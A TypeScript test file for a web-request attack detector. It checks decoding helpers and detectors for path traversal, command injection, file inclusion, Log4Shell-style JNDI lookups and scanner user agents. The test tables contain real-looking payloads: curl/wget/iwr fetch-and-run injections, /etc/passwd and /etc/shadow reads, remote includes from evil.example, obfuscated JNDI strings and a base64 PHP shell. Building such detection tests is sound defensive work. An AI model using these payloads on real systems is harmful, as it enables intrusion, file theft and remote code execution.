import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { formDecode, htmlDecode, inputCandidates, isQueryString, percentDecode, utf8Decode } from './decode.js';
import { webDetectors, webExplainers } from './index.js';

const { traversal, cmdi, lfi, rfi, jndi, scanner } = webDetectors;

function table(detector: (v: string) => boolean, attacks: string[], benign: string[]): void {
  for (const attack of attacks) it(`detects ${JSON.stringify(attack)}`, () => assert.equal(detector(attack), true));
  for (const text of benign) it(`leaves ${JSON.stringify(text)}`, () => assert.equal(detector(text), false));
}

describe('decoding', () => {
  it('percent-decodes repeatedly, bounded, keeping malformed escapes', () => {
    assert.equal(percentDecode('%252e%252e%252f'), '../');
    assert.equal(percentDecode('100%'), '100%');
    assert.equal(percentDecode('%zz%4'), '%zz%4');
    assert.equal(percentDecode('%u002e%u002E/'), '../');
    // Five levels deep: four rounds leave one.
    assert.equal(percentDecode('%2525252541'), '%41');
  });

  it('reads `+` as a space in form encoding, and nginx/Apache `\\x` escapes', () => {
    assert.equal(formDecode('a+b%2Bc'), 'a b+c');
    assert.equal(formDecode('\\x22quoted\\x22'), '"quoted"');
  });

  it('decodes UTF-8 but leaves overlong forms and stray bytes as bytes', () => {
    assert.equal(utf8Decode(percentDecode('%e2%82%ac')), '€');
    assert.equal(utf8Decode(percentDecode('%c0%ae')), '\u00c0\u00ae');
    assert.equal(utf8Decode(percentDecode('%ff%41')), '\u00ffA');
  });

  it('decodes character references as browsers do', () => {
    assert.equal(htmlDecode('&#106;&#x61;&#0000000118;&#97 &lt;&colon;&lbracejndi &zz;'), 'jav\u0061 <:{jndi &zz;');
  });

  it('tells a query string from a value that contains `=`', () => {
    assert.equal(isQueryString('a=1&b=2'), true);
    assert.equal(isQueryString('_CONF[path]=x'), true);
    assert.equal(isQueryString("1' or 1=1--"), false);
    assert.equal(isQueryString('plain'), false);
  });

  it('gives each parameter, then the whole', () => {
    assert.deepEqual(inputCandidates('a=1+2&b=%27x'), [
      { text: '1 2', param: 'a' }, { text: "'x", param: 'b' }, { text: "a=1 2&b='x", whole: true },
    ]);
    assert.deepEqual(inputCandidates('just text'), [{ text: 'just text' }]);
  });
});

describe('traversal', () => {
  table(traversal, [
    '../../etc/passwd', '..\\..\\windows\\win.ini', '%2e%2e%2f%2e%2e%2fetc', '%252e%252e%252f', '..%c0%af..%c0%afetc',
    '%c0%ae%c0%ae/', '/static/..;/WEB-INF/web.xml', 'file=....//....//etc/passwd', '/a/b/..', '%uff0e%uff0e/x',
  ], ['/index.html', 'wait.. what', 'file..txt', '1.2.3', '/a/./b', '...', 'v1..v2']);
});

describe('cmdi', () => {
  table(cmdi, [
    '; cat /etc/passwd', '| id', '`whoami`', '$(curl http://x/s.sh|sh)', 'x;wget http://1.2.3.4/a', '&& dir c:\\',
    '127.0.0.1; ping -c 3 evil', ";c'a't${IFS}/etc/passwd", '|/bi[n]/ca[t] /etc/passwd', '<!--#exec cmd="ls"-->',
    ';system(\'id\')', 'ls -la', '%0aid%0a', '& for /f %i in (\'whoami\') do echo %i', ';iex (iwr http://x/a.ps1)',
  ], [
    'Tom & Jerry', 'salt; pepper', 'cats | dogs', 'id=5', 'python tutorial', 'post the output of `cat /etc/fstab`',
    'run `sudo apt-get update` first', 'rock & roll; cat lovers unite', 'operating system (os)',
  ]);
});

describe('lfi', () => {
  table(lfi, [
    '/etc/passwd', '../../../../etc/shadow', 'file=..%2f..%2fetc%2fpasswd', 'C:\\boot.ini', 'php://filter/convert.base64-encode/resource=index.php',
    'page=php://input', 'file:///etc/passwd', '/proc/self/environ', '/.git/config', '/.env', 'WEB-INF/web.xml',
    'data:text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==', '/etc/pa[s]swd',
  ], [
    '/index.php', 'etc', 'kwin.ini', 'post the output of cat /etc/fstab please', '/misc/nmh//"file://$file/"',
    '/.envoy/config', 'environment variables', '/home/user/docs',
  ]);
});

describe('rfi', () => {
  table(rfi, [
    'page=http://evil.example/shell.txt', 'include=https://evil.example/x', '_CONF[path]=https://foo.bar',
    'x=http://203.0.113.5/a.txt', 'x=http://evil.example/shell.txt?', 'file=ftp://evil/x', 'x=gopher://127.0.0.1:6379/_x',
    '\\\\evil\\share\\x.php', 'x=jar:http://evil/b.zip!/a',
  ], ['url=https://example.com/next', 'redirect=https://example.com/a?b=c', 'q=http tutorial', 'page=2']);
});

describe('jndi', () => {
  table(jndi, [
    '${jndi:ldap://evil/a}', '${${lower:j}ndi:ldap://x}', '${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}',
    '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}', '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x}',
    '%24%7Bjndi%3Aldap%3A%2F%2Fx%7D', '$${env:x:-${env:y:-$}{jndi:ldap://x}}}', '$&lbrace;jndi:ldap://x}',
    '\\u0024\\u007bjndi:ldap://x}', '${jNdI:dns://x}', '${jndi:ldap://x',
  ], ['${user}', 'hello ${name}!', '$100 {gift}', 'jndi:ldap is a protocol', '${lower:JNDI}']);
});

describe('scanner', () => {
  table(scanner, [
    'sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)',
    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'masscan/1.3',
    'Mozilla/5.0 zgrab/0.x', 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'WPScan v3.8.22',
    'Fuzz Faster U Fool v2.0.0', 'gobuster/3.6', 'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1) Havij',
  ], [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36',
    'Googlebot/2.1 (+http://www.google.com/bot.html)', 'curl/8.4.0', 'Zappos shopping app', 'vega de valcarce',
  ]);
});

describe('explanations', () => {
  it('say why for every detector', () => {
    assert.deepEqual(webExplainers.traversal('/a/../../etc/passwd'), { match: true, evidence: '/a/../../etc/passwd' });
    assert.equal(webExplainers.cmdi('x; wget http://e/a').command, 'wget');
    assert.equal(webExplainers.lfi('f=/etc/passwd').target, 'etc/passwd');
    assert.equal(webExplainers.rfi('page=http://e/x').param, 'page');
    assert.equal(webExplainers.jndi('${${lower:j}ndi:ldap://x/a}').lookup, 'jndi:ldap://x/a');
    assert.equal(webExplainers.scanner('sqlmap/1.0').tool, 'sqlmap');
    for (const explain of Object.values(webExplainers)) assert.deepEqual(explain('hello'), { match: false });
  });
});
